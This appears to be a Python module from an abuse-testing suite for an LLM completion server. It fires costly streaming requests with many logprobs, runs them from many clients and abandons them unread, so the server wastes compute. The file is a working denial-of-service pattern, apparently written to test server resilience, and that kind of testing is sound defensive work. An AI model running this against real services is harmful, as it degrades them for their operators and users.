"""Streams with many logprobs that their clients never read."""

import asyncio

from abuse.attack import Attack
from abuse.wire import LEFT, LOST, Target, encode


async def once(target: Target, number: int) -> int:
    body = encode({"prompt": f"{number}", "n": 8, "max_tokens": 200, "logprobs": 20, "stream": True,
                   "temperature": 1, "ignore_eos": True})  # fmt: skip
    try:
        _, writer = await target.connect()
    except OSError:
        return LOST
    try:
        writer.write(target.head("POST", "/v1/completions", len(body)) + body)
        await asyncio.sleep(3.0)
        return LEFT
    finally:
        writer.transport.abort()


ATTACK = Attack(__doc__, once, num_clients=(8, 32), in_gate=True)
